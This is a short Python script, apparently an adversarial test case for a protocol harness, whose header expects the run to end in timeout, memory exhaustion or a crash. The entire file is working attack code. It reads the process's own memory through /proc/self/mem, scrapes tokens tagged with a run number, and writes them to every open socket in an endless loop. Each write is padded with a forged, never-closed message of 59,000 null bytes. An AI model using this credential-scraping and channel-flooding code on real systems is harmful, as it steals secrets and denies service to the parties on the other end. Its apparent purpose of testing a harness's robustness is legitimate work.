# why: the token is found and a message begun that never ends; who reads it keeps no more of it than its bound.
# kind: protocol
# status: timeout, memory, crashed, killed
# after: any

import ctypes
import os
import re
import stat


def channels():
    """Every socket of this process."""
    for name in os.listdir("/proc/self/fd"):
        try:
            if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
                yield int(name)
        except OSError:
            pass


def secrets():
    """Tokens with the run's number, as they stand in memory since the request was read."""
    ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)
    found = {}
    memory = os.open("/proc/self/mem", os.O_RDONLY)
    for line in open("/proc/self/maps"):
        start, end = (int(x, 16) for x in line.split()[0].split("-"))
        if " rw" in line and end - start < 64 << 20:
            try:
                text = os.pread(memory, end - start, start)
            except OSError, OverflowError:
                continue
            for token, n in re.findall(rb'([!-~]{16})[.+]\{"[^\n]{0,99}"n": ?(\d+)', text):
                found[token] = max(int(n), found.get(token, 0))
    os.close(memory)
    return found.items()


found, sockets = list(secrets()), list(channels())
while True:
    for token, _ in found:
        for fd in sockets:
            os.write(fd, token + b"+" + b'{"x":"' + bytes(59_000))
